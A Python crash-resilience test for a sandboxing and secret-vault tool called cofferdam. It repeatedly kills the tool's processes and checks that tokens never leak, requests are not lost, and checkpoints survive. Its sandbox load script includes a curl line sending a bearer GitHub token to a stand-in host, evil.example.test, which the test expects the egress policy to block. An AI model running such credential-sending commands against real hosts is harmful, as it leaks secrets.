#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# tests/run: weight=2
# tests/run: timeout=3600
"""kill -9, again and again, of everything that cofferdam is made of: cofferd, the vault that it keeps, coffer-egress, coffer-dial,
coffer-courier, coffer-web, the sandboxes' own coffer-init, guards and launchers; while sandboxes send requests with a placeholder, people
are told by a webhook, and somebody reads the API. Whatever dies: nothing is opened, nothing is lost, nothing is on the disk in the clear.

Each kind is killed at least once, however few kills there are. COFFER_KILLS=1000 makes a storm of it (make storm); COFFER_SEED the same
one again."""

import base64
import hashlib
import hmac
import json
import os
import random
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))

from coffertest import Tap, descendants, identities, kill_own, slow_build  # noqa: E402
from memsearch import has_any  # noqa: E402
from nettest import Internet, wait_for, why_not  # noqa: E402

KILLS = int(os.environ.get("COFFER_KILLS", "150"))
SEED = int(os.environ.get("COFFER_SEED", "0")) or int.from_bytes(os.urandom(4), "little")
TOKEN = "ghp_" + base64.b32encode(os.urandom(24)).decode()[:36]
PATIENCE = 120
HOOK_KEY = "hook-" + base64.b32encode(os.urandom(20)).decode()
API = "127.0.0.1:8787"
KINDS = ("cofferd", "coffer-vault", "coffer-egress", "coffer-dial", "coffer-netd", "coffer-courier", "coffer-web", "coffer-init",
         "coffer-guard", "coffer")
COSTLY = ("cofferd", "coffer-init", "coffer-guard", "coffer")  # whose death ends a whole run, or all that was under way
# $W is unique; a request's path is seen once only, if it arrives at all.
LOAD = r"""
n=0
while [ $n -lt $ROUNDS ]; do
  n=$((n+1))
  curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.example.test/v1/$W-$n" -o /dev/null
  curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" "https://evil.example.test/v1/$W-$n" -o /dev/null
  curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" "https://shut.example.test/v1/$W-$n" -o /dev/null
done 2>/dev/null
"""
# evil is denied by name. shut may be spoken with, but not with this secret.
POLICY = """version: 1
egress:
  allow:
    - {domain: api.example.test, port: 443, secret: github}
    - {domain: shut.example.test, port: 443, http: [{allow: "GET /**"}]}
"""

tap = Tap()


def processes():
    """{kind: [pid]} of ours that live."""
    found = {k: [] for k in KINDS}
    for pid, text in descendants(os.getpid()):
        if text[0] != "Z" and text[2:] in found:
            found[text[2:]].append(pid)
    return found


class Storm:
    def __init__(self, c, api, rng):
        self.c, self.api, self.rng = c, api, rng
        self.killed = dict.fromkeys(KINDS, 0)
        self.runners, self.n = [], 0
        self.loads = [self.load("$COFFER notify test --config $HOME/notify.yaml; sleep 0.05"),
                      self.load(f'curl -s -m 20 -H "Authorization: Bearer $API_TOKEN" http://{API}/v1/sandboxes; sleep 0.2')]

    def load(self, script):
        """Something that goes on beside the sandboxes."""
        token = self.c("token", "new", "--role", "observer").out.strip()
        return self.c.popen(program=["sh", "-c", f"while :; do {script}; done"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            env={"COFFER": self.c.exe, "API_TOKEN": token})

    def policy(self):
        return os.path.join(self.c.home, "policy.yaml")

    def runner(self):
        self.n += 1
        return self.c.popen("run", "--engine", self.c.engine, "--ephemeral", "--policy", self.policy(), "-e", f"W=r{self.n}", "-e",
                            "ROUNDS=40", "--secret", "github", "--", "sh", "-c", LOAD, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)

    def tend(self):
        """The acts of somebody who looks after it: start cofferd, and new runs where others have ended."""
        if not processes()["cofferd"]:
            self.c("gateway", "start", timeout=PATIENCE)
        self.runners = [p for p in self.runners if p.poll() is None]
        while len(self.runners) < 2:
            self.runners.append(self.runner())

    def kill_one(self):
        """The rare ones as often as the others, and first those that were not killed yet."""
        there = [k for k, pids in processes().items() if pids]
        kinds = [k for k in there if not self.killed[k]] or [k for k in there for _ in range(1 if k in COSTLY else 3)]
        if not kinds:
            return False
        kind = self.rng.choice(kinds)
        pids = processes()[kind]
        if pids and kill_own(self.rng.choice(pids), signal.SIGKILL):
            self.killed[kind] += 1
            return True
        return False

    def run(self, kills):
        arrived, quiet = len(self.api.requests), time.monotonic()
        # Some live only for a moment: they are waited for.
        late = time.monotonic() + PATIENCE * slow_build()
        while sum(self.killed.values()) < kills or (not all(self.killed.values()) and time.monotonic() < late):
            self.tend()
            if self.kill_one() and self.rng.random() < 0.3:
                self.kill_one()
            time.sleep(self.rng.random() * 0.25)
            # Under load: requests get through between the deaths, or we wait for one.
            if len(self.api.requests) == arrived and time.monotonic() - quiet > 3:
                wait_for(lambda: self.tend() or len(self.api.requests) > arrived, PATIENCE)
            if len(self.api.requests) > arrived:
                arrived, quiet = len(self.api.requests), time.monotonic()
        for p in self.runners + self.loads:
            kill_own(p.pid, signal.SIGTERM)
        for p in self.runners + self.loads:
            p.wait(180 * slow_build())


def bot(c, name, policy):
    work = os.path.join(c.dir, name)
    os.mkdir(work)
    c.own(work)
    r = c("run", "-d", "--engine", c.engine, "--name", name, "--restart", "always", "-C", work, "--policy", policy, "-e", f"W={name}",
          "-e", "ROUNDS=1000000", "--secret", "github", "--", "sh", "-c",
          "W=$W-$(od -An -N6 -tx1 /dev/urandom | tr -d ' '); " + LOAD)
    tap.eq(r.code, 0, f"{c.who}: {name} starts with --restart always", r)


def marked(c, name):
    """The file that only its layer has, and the list of its checkpoints."""
    r = c("exec", name, "--", "cat", "/workspace/mark")
    return r.out, json.loads(c("checkpoint", "ls", "--json", name).out or "[]")


def kept(c, name):
    r = c("gateway", "status", "--json")
    return next((s for s in json.loads(r.out or "{}").get("sandboxes", []) if s["name"] == name), {})


def begin(c, api):
    who = c.who
    policy = c.write(os.path.join(c.home, "policy.yaml"), POLICY)
    r = c("gateway", "start", "--listen", API)
    tap.eq(r.code, 0, f"{who}: gateway start --listen starts cofferd with an API", r)
    r = c("secret", "set", "github", "-", "--host", "api.example.test/v1", "--as", "bearer", input=TOKEN)
    tap.eq(r.code, 0, f"{who}: a token is put into the vault", r)
    r = c("secret", "set", "ops-hook", "-", "--host", "hooks.example.test", "--as", "header:coffer-signature", input=HOOK_KEY)
    tap.eq(r.code, 0, f"{who}: the key of a webhook is put into the vault", r)
    c.write(os.path.join(c.home, "notify.yaml"), "version: 1\nnotify:\n- " + json.dumps(
        {"webhook": {"url": "https://hooks.example.test/in", "secret": "ops-hook"}}) + "\n", 0o600)
    for name in ("ann", "bob"):
        bot(c, name, policy)
        tap.ok(wait_for(lambda n=name: kept(c, n).get("watched"), PATIENCE), f"{who}: {name} is watched by cofferd", kept(c, name))
        r = c("exec", name, "--", "sh", "-c", f"echo {name} was here > /workspace/mark")
        tap.eq(r.code, 0, f"{who}: {name} writes a file", r)
        r = c("checkpoint", name)
        tap.eq(r.code, 0, f"{who}: {name} gets a checkpoint", r)
    tap.ok(wait_for(lambda: any(q.headers.get("Authorization") == "Bearer " + TOKEN for q in api.requests), PATIENCE),
           f"{who}: requests arrive with the token")


def nothing_opened(c, api, evil, shut, dns):
    who = c.who
    log = c("audit", "--json", timeout=300).out.splitlines()
    used = {e["path"] for e in map(json.loads, log) if e["type"] == "secret.use"}
    arrived = [q.path for q in api.requests]
    missing = sorted({p for p in arrived if p not in used})
    tap.ok(len(set(arrived)) == len(arrived), f"{who}: no request was sent twice", len(arrived) - len(set(arrived)))
    tap.eq(missing, [], f"{who}: each of {len(arrived)} requests that arrived has its decision in the log")
    wrong = [q.headers.get("Authorization") for q in api.requests if q.headers.get("Authorization") != "Bearer " + TOKEN]
    tap.eq(wrong, [], f"{who}: every request arrived with the token")
    tap.ok(not evil.connections and not any("evil" in q for q, _ in dns), f"{who}: nothing reached a host that is not allowed",
           evil.requests)
    tap.eq(shut.requests, [], f"{who}: no placeholder reached a host that it is not bound to")
    return log


def nothing_in_files(c):
    who = c.who

    def look():
        found = []
        for top, _, files in os.walk(c.dir):
            for name in files:
                path = os.path.join(top, name)
                if os.path.isfile(path) and not os.path.islink(path):
                    with open(path, "rb") as f:
                        if has_any(f.read(), TOKEN, HOOK_KEY):
                            found.append(path)
        return found
    control = os.path.join(c.tmp, "control")
    with open(control, "wb") as f:
        f.write(b"xx" + base64.b64encode(b"." + TOKEN.encode()))
    tap.eq(look(), [control], f"{who}: control: a token in a file is found, and no other file has it")
    os.unlink(control)
    left = [n for n in os.listdir(os.path.join(c.state, "vault")) if n not in ("secrets", "saved", "lock", "key-file", "mark", "placeholders")]
    tap.eq(left, [], f"{who}: the vault directory has no other files")


def nothing_lost(c):
    who = c.who
    c("gateway", "start", timeout=PATIENCE)
    for name in ("ann", "bob"):
        # It may be in its pause.
        tap.ok(wait_for(lambda n=name: kept(c, n).get("watched"), PATIENCE), f"{who}: {name} runs again after the storm", kept(c, name))
        text, points = marked(c, name)
        tap.eq(text, f"{name} was here\n", f"{who}: {name} has the file that it wrote")
        tap.ok(len(points) >= 1, f"{who}: {name} has its checkpoint", points)
        r = c("rollback", name)
        tap.eq(r.code, 0, f"{who}: {name} can be rolled back to its checkpoint", r)
        tap.eq(marked(c, name)[0], f"{name} was here\n", f"{who}: {name} has its file after the rollback")
    ps = json.loads(c("ps", "-a", "--json").out)
    tap.eq(sorted(s["name"] for s in ps), ["ann", "bob"], f"{who}: no other sandbox is left", ps)


def is_signed(q):
    parts = dict(p.split("=", 1) for p in q.headers.get("coffer-signature", "t=0,v1=").split(","))
    return parts["v1"] == hmac.new(HOOK_KEY.encode(), parts["t"].encode() + b"." + q.body, hashlib.sha256).hexdigest()


def first_process_dies(c, api):
    """Process 1 of a sandbox: the sandbox ends with it, whoever waits for it is told, and one that is kept comes back."""
    who = c.who
    inits = {pid for pid, text in descendants(os.getpid()) if text[2:] == "coffer-init"}
    p = c.popen("run", "--engine", c.engine, "--ephemeral", "--net", "none", "--", "sleep", "1000")
    mine = wait_for(lambda: [pid for pid, text in descendants(p.pid) if text[2:] == "coffer-init"], PATIENCE)
    tap.ok(mine and not inits & set(mine), f"{who}: control: the sandbox has a coffer-init", mine)
    for pid in mine or []:
        kill_own(pid)
    err = p.communicate(timeout=180 * slow_build())[1].decode()
    tap.ok(p.returncode not in (0, None), f"{who}: a sandbox ends with an error when its process 1 is killed", p.returncode, err)
    ends = [e for e in map(json.loads, c("audit", "--json", timeout=300).out.splitlines()) if e["type"] == "run.end"]
    tap.ok(ends and ends[-1].get("exit") != 0, f"{who}: run.end of a killed process 1 has an error", ends[-1:])
    before, again = len(api.requests), kept(c, "bob").get("restarts", 0)
    for pid in inits:
        kill_own(pid)
    tap.ok(wait_for(lambda: kept(c, "bob").get("restarts", 0) > again and kept(c, "bob").get("watched"), PATIENCE),
           f"{who}: a kept sandbox is restarted after its process 1 was killed", kept(c, "bob"))
    tap.ok(wait_for(lambda: len(api.requests) > before, PATIENCE), f"{who}: a restarted sandbox sends requests")


def storm(c, net, servers, kills):
    who = c.who
    api, evil, shut, hook = servers
    for s in servers:
        s.requests.clear()
        s.connections.clear()
    net.queries.clear()
    rng = random.Random(SEED)
    begin(c, api)
    first_process_dies(c, api)
    s = Storm(c, api, rng)
    start = time.monotonic()
    s.run(kills)
    tap.note(f"{who}: {sum(s.killed.values())} kills in {time.monotonic() - start:.0f} s, {len(api.requests)} requests arrived: "
             + ", ".join(f"{k} {n}" for k, n in s.killed.items()))
    tap.ok(all(s.killed.values()), f"{who}: control: each kind of process was killed", s.killed)
    before = len(api.requests)
    c("gateway", "start", timeout=PATIENCE)
    again = s.runner()
    tap.ok(wait_for(lambda: len(api.requests) > before, PATIENCE), f"{who}: requests arrive again after the storm")
    kill_own(again.pid, signal.SIGTERM)
    again.wait(180 * slow_build())
    r = c("notify", "test", "--config", os.path.join(c.home, "notify.yaml"), timeout=PATIENCE)
    tap.ok(r.code == 0 and hook.requests, f"{who}: notifications arrive after the storm", r)
    tap.eq([q for q in hook.requests if not is_signed(q)], [], f"{who}: all {len(hook.requests)} notifications were signed with the key")
    token = c("token", "new", "--role", "observer", "--name", "after").out.strip()
    told = wait_for(lambda: all(f'"{n}"' in c(program=["curl", "-sS", "-m", "60", "-H", f"Authorization: Bearer {token}",
                                                       f"http://{API}/v1/sandboxes"]).out for n in ("ann", "bob")), PATIENCE)
    tap.ok(told, f"{who}: the API lists both sandboxes after the storm")
    nothing_lost(c)
    r = c("rm", "-f", "ann", "bob")
    tap.eq(r.code, 0, f"{who}: rm -f removes both sandboxes", r)
    c("gateway", "stop")
    log = nothing_opened(c, api, evil, shut, net.queries)
    r = c("audit", "verify", timeout=300)
    tap.eq(r.code, 0, f"{who}: the log of {len(log)} lines verifies", r)
    nothing_in_files(c)
    c.check_clean(tap)
    tap.eq(os.listdir(os.path.join(c.state, "runs")), [], f"{who}: no directory of a run is left")


def main():
    reason = why_not()
    if reason:
        tap.skip("a storm of kills", reason)
        tap.done()
    tap.note(f"COFFER_SEED={SEED}")
    who = [w for w in identities(tap) if w in ("root", "user")]
    with Internet() as net:
        api = net.https("api.example.test", lambda q: "welcome" if TOKEN in q.headers.get("Authorization", "") else (401, {}, ""))
        evil, shut = net.https("evil.example.test"), net.https("shut.example.test")
        # Slow, so that who calls it lives for a while.
        hook = net.https("hooks.example.test", lambda q: time.sleep(0.3) or "thanks")
        for host in ("evil", "shut"):
            r = net.run_as("root", ["curl", "-sS", "-m", "60", f"https://{host}.example.test/control"])
            tap.eq(r.returncode, 0, f"control: {host} is reachable without a policy", r)
        for w in who:
            with net.coffer(w) as c:
                storm(c, net, (api, evil, shut, hook), KILLS // len(who))
    tap.done()


main()
